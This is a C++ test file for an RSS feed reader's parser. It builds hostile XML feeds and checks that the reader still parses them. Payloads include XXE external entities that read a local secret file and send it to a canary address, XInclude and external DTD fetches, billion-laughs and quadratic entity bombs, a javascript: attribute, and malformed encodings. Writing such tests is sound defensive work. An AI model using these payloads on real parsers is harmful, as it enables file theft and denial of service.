// SPDX-License-Identifier: GPL-3.0-or-later
#include "tests/app/refresh/samplefeed.h"
#include "tests/hostile/documents.h"
#include "tests/hostile/stage.h"
#include "tests/support/patience.h"

#include <QStringEncoder>

using namespace Qt::StringLiterals;

namespace tests::hostile {

using Kind = models::Problem::Kind;

namespace {

const Play fromTheStart{.known = false, .rounds = 2};
const QStringList both = {u"One"_s, u"Two"_s};
const QByteArray items = item("1", "One") + item("2", "Two");

Case same(const char *name, const QByteArray &body)
{
    return {name, document(body), reads(both), fromTheStart};
}

/// A document type with "%f", a file, and "%c", an address; the first item's title ends in "&x;".
Case reaching(const char *name, const QByteArray &doctype, const QByteArray &reference = "&x;")
{
    return {name,
            [doctype, reference](Stage &stage) {
                QByteArray prolog = "<?xml version='1.0'?>" + doctype;
                prolog.replace("%f", stage.secretFile()).replace("%c", stage.canary());
                stage.serve("/feed", HttpResponse::feed(
                                         rss(item("1", "One", "<description>" + reference + "</description>")
                                                 + item("2", "Two"),
                                             prolog)));
            },
            reads(both), fromTheStart};
}

QByteArray billionLaughs()
{
    QByteArray prolog = "<?xml version='1.0'?><!DOCTYPE rss [<!ENTITY a0 'ha'>";
    for (int i = 1; i < 30; ++i) {
        const QByteArray before = "&a" + QByteArray::number(i - 1) + ";";
        prolog += "<!ENTITY a" + QByteArray::number(i) + " '" + before.repeated(10) + "'>";
    }
    return rss(item("1", "One", "<description>&a29;</description>") + item("2", "Two"), prolog + "]>");
}

QByteArray quadratic()
{
    return rss(item("1", "One", "<description>" + QByteArray("&a;").repeated(50'000) + "</description>")
                   + item("2", "Two"),
               "<!DOCTYPE rss [<!ENTITY a '" + QByteArray(50'000, 'a') + "'>]>");
}

HttpResponse in(const char *encoding, QByteArray body, const QByteArray &type = "application/rss+xml")
{
    QStringEncoder encoder(encoding, QStringConverter::Flag::WriteBom);
    return HttpResponse::feed(encoder.encode(QString::fromUtf8(body)), {{"Content-Type", type}});
}

QList<Case> entities()
{
    return {
        reaching("entity-file", "<!DOCTYPE rss [<!ENTITY x SYSTEM '%f'>]>"),
        reaching("entity-http", "<!DOCTYPE rss [<!ENTITY x SYSTEM '%c'>]>"),
        reaching("entity-public", "<!DOCTYPE rss [<!ENTITY x PUBLIC 'a' '%c'>]>"),
        reaching("entity-parameter", "<!DOCTYPE rss [<!ENTITY % p SYSTEM '%c'> %p;]>"),
        reaching("entity-parameter-file", "<!DOCTYPE rss [<!ENTITY % f SYSTEM '%f'><!ENTITY % e \"<!ENTITY x "
                                          "SYSTEM '%c?%f;'>\">%e;]>"),
        reaching("external-dtd", "<!DOCTYPE rss SYSTEM '%c'>"),
        reaching("external-dtd-public", "<!DOCTYPE rss PUBLIC '-//Netscape//DTD RSS 0.91//EN' '%c'>"),
        reaching("xslt", "<?xml-stylesheet type='text/xsl' href='%c'?>"),
        reaching("css", "<?xml-stylesheet type='text/css' href='%c'?>"),
        reaching("schema", "<!-- -->",
                 "<x xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' "
                 "xsi:schemaLocation='a b'>y</x>"),
        {"xinclude",
         [](Stage &stage) {
             const QByteArray include = "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' parse='text' "
                                        "href='";
             stage.serve("/feed",
                         HttpResponse::feed(rss(item("1", "One",
                                                     "<description>" + include + stage.secretFile() + "'/>"
                                                         + include + stage.canary() + "'/></description>")
                                                + item("2", "Two"))));
         },
         reads(both), fromTheStart},
        same("billion-laughs", billionLaughs()),
        same("quadratic-blow-up", quadratic()),
        same("entity-recursive", rss(item("1", "One", "<description>&a;</description>") + item("2", "Two"),
                                     "<!DOCTYPE rss [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>")),
        same("entity-unknown",
             rss(item("1", "One", "<description>&nbsp;&nonsense;</description>") + item("2", "Two"))),
        same("entities-100k", rss(items, "<!DOCTYPE rss [" + numbered("<!ENTITY e%1 'x'>", 100'000) + "]>")),
        same("doctype-endless",
             rss(items, "<!DOCTYPE rss [" + QByteArray("<!-- x -->").repeated(50'000) + "]>")),
        same("attlist", rss(items, "<!DOCTYPE rss [<!ATTLIST item evil CDATA 'javascript:alert(1)'>]>")),
        same("references-bad", rss(item("1", "One",
                                        "<description>&#0;&#x1F;&#xFFFFFFFF;&#99999999999;&#-1;"
                                        "&#xD800;&#;</description>")
                                   + item("2", "Two"))),
    };
}

QList<Case> shapes()
{
    const QByteArray attributes = "<channel " + numbered("a%1='' ", 60'000) + ">";
    return {
        {"many-attributes", document("<rss version='2.0'>" + attributes + "<title>x</title></channel></rss>"),
         fails(Kind::NotAFeed)},
        {"many-attributes-in-an-item",
         document(rss("<item><x " + numbered("a%1='' ", 60'000) + "/><title>One</title></item>")), fails()},
        {"many-attributes-unclosed", document("<rss version='2.0'><channel " + numbered("a%1='' ", 60'000)),
         fails()},
        same("attributes-900", rss("<item " + numbered("a%1='' ", 900)
                                   + "><guid>1</guid><title>One</title>"
                                     "</item>"
                                   + item("2", "Two"))),
        same("namespaces-900", rss("<item " + numbered("xmlns:n%1='urn:%1' ", 900)
                                   + "><guid>1</guid><title>One</title>"
                                     "</item>"
                                   + item("2", "Two"))),
        {"attribute-12-mb", answerWith([] {
             return HttpResponse::feed(
                 rss("<item><x y='" + QByteArray(12 * 1024 * 1024, 'y') + "'/></item>" + items));
         }),
         fails()},
        {"name-200k",
         document(rss("<item><" + QByteArray(200'000, 'n') + "/></item>" + items)),
         {.stored = -1},
         fromTheStart},
        same("deep-xml",
             rss(item("1", "One", QByteArray("<x>").repeated(10'000) + QByteArray("</x>").repeated(10'000))
                 + item("2", "Two"))),
        same("deep-xml-in-text", rss(item("1", "One",
                                          "<description>" + QByteArray("<x>").repeated(10'000) + "y"
                                              + QByteArray("</x>").repeated(10'000) + "</description>")
                                     + item("2", "Two"))),
        {"deep-xml-unclosed",
         document(rss(QByteArray("<x>").repeated(portion(200'000)))),
         {.stored = 0},
         fromTheStart},
        same("comments-1-mb", rss("<!--" + QByteArray(1024 * 1024, '-').replace("--", "- ") + "-->" + items)),
        same("instructions", rss(numbered("<?php echo %1 ?>", 10'000) + items)),
        same("cdata-ends", rss(item("1", "One", "<description><![CDATA[x]]]]><![CDATA[>y]]></description>")
                               + item("2", "Two"))),
        same("nul", QByteArray(rss(items)).replace("<item>", QByteArray("<item>\0", 7))),
        same("control-characters", QByteArray(rss(items))
                                       .replace("One", "O\x01n\x0b"
                                                       "e")),
        same("del-and-c1-outside", rss("\x7f" + items)),
        same("junk-before", "Connected to database.\n" + rss(items, "<?xml version='1.0'?>")),
        same("blanks-before", "\n\n  " + rss(items, "<?xml version='1.0'?>")),
        same("warning-before", "<br />\n<b>Warning</b>: x in <b>y.php</b> on line 1<br />\n" + rss(items)),
        same("boms", "\xef\xbb\xbf\xef\xbb\xbf" + rss(items)),
        same("junk-after", rss(items) + "<!-- cached --><script>document.write('x')</script>"),
        same("another-feed-after", rss(items) + rss(item("3", "Three"))),
        same("unclosed-tags", rss("<item><guid>1</guid><title>One</title><description><p>a<br>b"
                                  "</description></item>"
                                  + item("2", "Two"))),
        same("crossed-tags",
             rss("<item><guid>1</guid><title>One</title><a><b></a></b></item>" + item("2", "Two"))),
        same("no-end-tags", rss(items).chopped(16)),
        same("bare-ampersands",
             rss(item("1", "One", "<link>http://h.test/?a=1&b=2&copy=3</link>") + item("2", "Two"))),
        same("no-quotes",
             rss(item("1", "One", "<enclosure url=http://h.test/a.mp3 length=1>") + item("2", "Two"))),
        same("upper-case", QByteArray(rss(items)).replace("item>", "ITEM>").replace("title>", "TITLE>")),
        same("version-1.1", rss(items, "<?xml version='1.1'?>")),
        same("version-9", rss(items, "<?xml version='9.9' standalone='maybe'?>")),
        same("prefix-unbound",
             rss(item("1", "One", "<media:content url='http://h.test/x'/>") + item("2", "Two"))),
        same("root-twice", "<rss version='2.0'><rss version='2.0'><channel><title>x</title>" + items
                               + "</channel></rss></rss>"),
        same("item-in-item", rss("<item><guid>1</guid><title>One</title>" + item("2", "Two") + "</item>")),
    };
}

QList<Case> encodings()
{
    const QByteArray document16 = rss(items, "<?xml version='1.0' encoding='utf-16'?>");
    return {
        {"utf-16-le", answer(in("UTF-16LE", document16)), reads(both), fromTheStart},
        {"utf-16-be", answer(in("UTF-16BE", document16)), reads(both), fromTheStart},
        {"utf-32", answer(in("UTF-32LE", rss(items))), reads(both), fromTheStart},
        {"utf-16-odd", answerWith([=] {
             HttpResponse response = in("UTF-16LE", document16);
             response.body.chop(1);
             return response;
         }),
         reads(both), fromTheStart},
        same("utf-8-invalid", QByteArray(rss(items)).replace("Harbour", "H\xff\xfe\xc0\xaf\xed\xa0\x80r")),
        same("utf-8-overlong",
             rss(item("1", "One", "<description>\xc0\xbcscript\xc0\xbe</description>") + item("2", "Two"))),
        same("utf-8-cut", QByteArray(rss(items)).replace("Harbour", "H\xe4\xb8")),
        same("declared-utf-16", document16),
        same("declared-utf-7", rss(items, "<?xml version='1.0' encoding='utf-7'?>")),
        same("declared-unknown", rss(items, "<?xml version='1.0' encoding='klingon'?>")),
        same("declared-ebcdic", rss(items, "<?xml version='1.0' encoding='ebcdic-cp-us'?>")),
        same("declared-2022-jp", rss(items, "<?xml version='1.0' encoding='iso-2022-jp'?>")),
        same("declared-long",
             rss(items, "<?xml version='1.0' encoding='" + QByteArray(100'000, 'e') + "'?>")),
        same("declaration-unclosed", "<?xml version='1.0'" + rss(items)),
    };
}

} // namespace

QList<Case> xmlCases()
{
    return entities() + shapes() + encodings();
}

} // namespace tests::hostile
